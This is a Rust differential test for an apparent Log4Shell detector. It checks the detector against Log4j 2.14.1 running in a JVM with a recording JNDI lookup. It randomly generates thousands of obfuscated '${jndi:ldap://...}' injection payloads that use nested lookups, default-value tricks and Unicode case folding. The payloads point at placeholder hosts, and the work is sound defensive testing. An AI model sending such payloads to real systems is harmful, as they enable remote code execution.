//! Differential test against the JVM: Log4j 2.14.1's own `StrSubstitutor`, `Interpolator` and
//! `MessagePatternConverter` (tests/oracle/HuntOracle.java, compiled here with `javac` against the
//! corpus jars) with a recording JNDI lookup. For every vector, every transport-decoded form of a
//! vector, and 12,000 generated obfuscations of random JNDI URLs, quell's JNDI names (single pass
//! and converter rescan) and its error outcome must equal the JVM's.
//!
//! Needs `javac` and `java` (JDK 11+); without them the tests fail (the oracle is never skipped).

mod common;

use common::{Rng, b64_list, benign, corpus, run_java_oracle, vectors};
use quell_hunt::{Decoder, Evaluator, Outcome};

/// How many generated payloads go to the JVM.
const GENERATED: usize = 12_000;
/// How many benign log lines go to the JVM (they must record nothing).
const BENIGN: usize = 2_000;
const SEED: u64 = 0x5eed_1054_2021_1209;

const KEYWORD: &str = concat!("jn", "di");

struct JvmAnswer {
    single_status: String,
    single: Vec<String>,
    rescan_status: String,
    rescan: Vec<String>,
}

fn run_jvm(payloads: &[String]) -> Option<Vec<JvmAnswer>> {
    let jars = corpus().join("jars");
    let cp_jars =
        format!("{}:{}", jars.join("log4j-core-2.14.1.jar").display(), jars.join("log4j-api-2.14.1.jar").display());
    let opts = ["-Xss8m", "-Dlog4j2.statusLoggerLevel=OFF"];
    let answers = run_java_oracle("HuntOracle", &cp_jars, &opts, payloads, 4)
        .into_iter()
        .map(|p| JvmAnswer {
            single_status: p[0].clone(),
            single: b64_list(&p[1]),
            rescan_status: p[2].clone(),
            rescan: b64_list(&p[3]),
        })
        .collect();
    Some(answers)
}

fn status_of(o: &Outcome) -> &'static str {
    match o {
        Outcome::Completed => "ok",
        Outcome::Recursion(_) => "error:IllegalStateException",
        Outcome::LookupError(_) => "error:IllegalArgumentException",
        Outcome::Bounded(_) => "bounded",
    }
}

/// A random JNDI URL.
fn random_url(r: &mut Rng) -> String {
    let scheme = *r.pick(&["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "LDAP", "lDaP"]);
    let host = match r.below(4) {
        0 => format!("{}.{}.{}.{}", r.below(256), r.below(256), r.below(256), r.below(256)),
        1 => format!("127.0.0.1#{}.example", r.next() % 100_000),
        2 => format!("h{}.oast.example", r.next() % 1_000_000),
        _ => "[::1]".to_owned(),
    };
    let port = if r.chance(50) { format!(":{}", r.below(65536)) } else { String::new() };
    let slashes = if r.chance(10) { "/" } else { "//" };
    let mut path = String::new();
    for _ in 0..r.below(4) {
        path.push('/');
        for _ in 0..1 + r.below(8) {
            path.push(*r.pick(&['a', 'B', 'z', '0', '9', '.', '_', '-', ':', '=', '+', '~', 'é', 'ı', '$', '{']));
        }
    }
    format!("{scheme}:{slashes}{host}{port}{path}")
}

const GARBAGE_KEYS: &[&str] = &["x", "ozI:Kgh", "FORESCOUT:RANDOMVAL", "a:l:urnrtk", "", "NaN", "k5", "EnV:x"];

/// One character of the payload, obfuscated by a random technique.
fn obfuscate_char(r: &mut Rng, c: char, depth: u32) -> String {
    if depth > 2 || r.chance(35) || c == '}' {
        return c.to_string();
    }
    let key = *r.pick(GARBAGE_KEYS);
    match r.below(16) {
        0 => format!("${{lower:{c}}}"),
        1 => format!("${{upper:{c}}}"),
        2 => format!("${{::-{c}}}"),
        3 => format!("${{env:{key}:-{c}}}"),
        4 => format!("${{sys:{key}:-{c}}}"),
        5 => format!("${{{key}:-{c}}}"),
        6 if c != '\'' => format!("${{date:'{c}'}}"),
        7 => format!(
            "${{{}:{key}:-{c}}}",
            r.pick(&["k8s", "sd", "web", "ctx", "main", "map", "docker", "spring", "EnV", "SyS"])
        ),
        8 => format!("${{lower:{}}}", obfuscate_char(r, c, depth + 1)),
        9 => format!("${{${{::-l}}ower:{c}}}"),
        10 => format!("${{x:\\-y:-{c}}}"),
        11 => format!("${{::-{}}}", obfuscate_char(r, c, depth + 1)),
        12 => match c {
            'i' | 'I' => (*r.pick(&["${upper:ı}", "${lower:İ}", "${upper:i}"])).to_owned(),
            's' | 'S' => "${upper:ſ}".to_owned(),
            'k' | 'K' => "${lower:\u{212A}}".to_owned(),
            _ => c.to_string(),
        },
        13 => format!("${{{}:{c}}}", r.pick(&["lower", "LOWER", "Upper", "uPpEr"])),
        14 if !c.is_ascii_alphabetic() => format!("${{date:''{c}''}}"),
        _ => format!("${{{key}:{}:-{c}}}", r.pick(&["a", "b:c", "-"])),
    }
}

fn obfuscate(r: &mut Rng, s: &str) -> String {
    s.chars().map(|c| obfuscate_char(r, c, 0)).collect()
}

/// A random obfuscated payload, sometimes wrapped in text, repeated, escaped or broken.
fn generate(r: &mut Rng) -> String {
    let url = random_url(r);
    let prefix = match r.below(5) {
        0 => KEYWORD.to_owned(),
        1 => KEYWORD.to_uppercase(),
        2 => "jNdI".to_owned(),
        _ => obfuscate(r, KEYWORD),
    };
    let body = if r.chance(60) { obfuscate(r, &url) } else { url };
    let mut p = format!("${{{prefix}:{body}}}");
    match r.below(12) {
        0 => p = format!("GET /?q={p} HTTP/1.1 ua={p}"),
        1 => p = format!("${{::-{p}}}"),
        2 => p = format!("$${{::-x}}{p}"),
        3 => p = format!("foo=$${{env:a:-${{env:b:-$}}{{{KEYWORD}:ldap://{}/x}}}}}}", r.next() % 1000),
        4 => p = format!("{p}{}", p.replacen("${", "$${", 1)),
        5 => {
            let mut cut = p.len() - 1 - r.below(3).min(p.len() - 1);
            while !p.is_char_boundary(cut) {
                cut -= 1;
            }
            p.truncate(cut);
        }
        6 => p = format!("${{${{::-${{::-$${{::-j}}}}}}}}{p}"),
        7 => p = format!("x ${{hostName}} {p}"),
        8 => p = format!("${{java:{}}}{p}", r.pick(&["foo", "version"])),
        _ => {}
    }
    p
}

#[test]
fn quell_agrees_with_the_jvm() {
    let ev = Evaluator::default();
    let decoder = Decoder::default();
    let mut payloads: Vec<String> = Vec::new();
    let mut labels: Vec<String> = Vec::new();
    let vs = vectors();
    for v in &vs {
        payloads.push(String::from_utf8_lossy(&v.input).into_owned());
        labels.push(format!("{} (as logged)", v.id));
        for (i, var) in decoder.variants(&String::from_utf8_lossy(&v.input)).into_iter().enumerate() {
            payloads.push(var.text);
            labels.push(format!("{} (decoded {}: {:?})", v.id, i + 1, var.chain));
        }
    }
    let mut g = benign::Rng(3);
    for n in 0..BENIGN {
        payloads.push(benign::benign_line(&mut g, n as u64));
        labels.push(format!("benign #{n}"));
    }
    let n_vectors = payloads.len();
    let mut r = Rng(SEED);
    for i in 0..GENERATED {
        payloads.push(generate(&mut r));
        labels.push(format!("generated #{i}"));
    }
    let Some(answers) = run_jvm(&payloads) else { return };

    let mut failures = Vec::new();
    let mut with_names = 0;
    for ((p, label), jvm) in payloads.iter().zip(&labels).zip(&answers) {
        let m = ev.message(p);
        let single_status = status_of(&m.single.outcome);
        let rescan_status = status_of(&m.rescan_outcome);
        let all = m.all_names();
        if ev.is_inert(p) && !jvm.rescan.is_empty() {
            failures.push(format!("{label}: judged inert, but the JVM records {:?}", jvm.rescan));
        }
        if ev.is_inert_anywhere(p.as_bytes()) && !(ev.is_inert(p) && jvm.rescan.is_empty()) {
            failures.push(format!("{label}: judged inert anywhere, but not inert (JVM records {:?})", jvm.rescan));
        }
        if label.starts_with("benign") && !jvm.rescan.is_empty() {
            failures.push(format!("{label}: the benign generator produced a payload: {p:?}"));
        }
        if !jvm.rescan.is_empty() {
            with_names += 1;
        }
        if m.single.names != jvm.single
            || all != jvm.rescan
            || single_status != jvm.single_status
            || rescan_status != jvm.rescan_status
        {
            failures.push(format!(
                "{label}: payload {p:?}\n  quell single {:?} {single_status} / rescan {all:?} {rescan_status}\n  jvm   single {:?} {} / rescan {:?} {}",
                m.single.names, jvm.single, jvm.single_status, jvm.rescan, jvm.rescan_status
            ));
        }
    }
    eprintln!(
        "oracle: {} payloads ({n_vectors} from vectors and benign lines, {GENERATED} generated), {with_names} with JNDI names, {} disagreements",
        payloads.len(),
        failures.len()
    );
    assert!(with_names > GENERATED / 2, "the generator should mostly produce working payloads");
    assert!(
        failures.is_empty(),
        "{} disagreements:\n{}",
        failures.len(),
        failures.iter().take(20).cloned().collect::<Vec<_>>().join("\n")
    );
}

/// Prints the vectors whose `expected_jndi` (computed by a model) differs from the JVM on the
/// payload as logged and on its transport-decoded form. Informational (`--nocapture`).
#[test]
#[ignore = "diagnostic, not a check: prints where the vectors' labels and the JVM disagree (cargo test -- --ignored)"]
fn report_vector_disagreements() {
    let vs = vectors();
    let mut payloads = Vec::new();
    for v in &vs {
        payloads.push(String::from_utf8_lossy(&v.input).into_owned());
        let decoded = Decoder::default().variants(&String::from_utf8_lossy(&v.input)).last().map(|x| x.text.clone());
        payloads.push(decoded.unwrap_or_else(|| String::from_utf8_lossy(&v.input).into_owned()));
    }
    let Some(answers) = run_jvm(&payloads) else { return };
    for (i, v) in vs.iter().enumerate() {
        let raw = &answers[2 * i];
        let dec = &answers[2 * i + 1];
        if raw.single != v.expected_jndi || dec.rescan != v.expected_jndi {
            eprintln!(
                "{} {}: expected_jndi {:?}; JVM as logged: single {:?} {} rescan {:?}; JVM after transport decoding: {:?}",
                v.id, v.kind, v.expected_jndi, raw.single, raw.single_status, raw.rescan, dec.rescan
            );
        }
    }
}
